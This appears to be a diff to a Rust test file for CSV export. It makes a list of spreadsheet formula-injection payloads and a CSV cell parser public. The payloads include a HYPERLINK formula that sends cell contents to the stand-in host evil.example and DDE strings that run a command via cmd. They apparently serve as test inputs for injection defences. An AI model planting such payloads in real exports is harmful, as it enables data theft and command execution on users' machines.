@@ -8,7 +8,7 @@ use serde_json::json;
 use crate::helpers::{assert_problem, spawn_app, spawn_app_with};
 use crate::world::{World, marker, seed_body};
 
-const FORMULAS: [&str; 6] = [
+pub const FORMULAS: [&str; 6] = [
     "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")",
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -18,7 +18,7 @@ const FORMULAS: [&str; 6] = [
 ];
 
 /// Every cell of a CSV document (quoted fields with doubled quotes, CRLF rows).
-fn cells(csv: &str) -> Vec<String> {
+pub fn cells(csv: &str) -> Vec<String> {
     let mut out = Vec::new();
     let mut cell = String::new();
     let mut quoted = false;
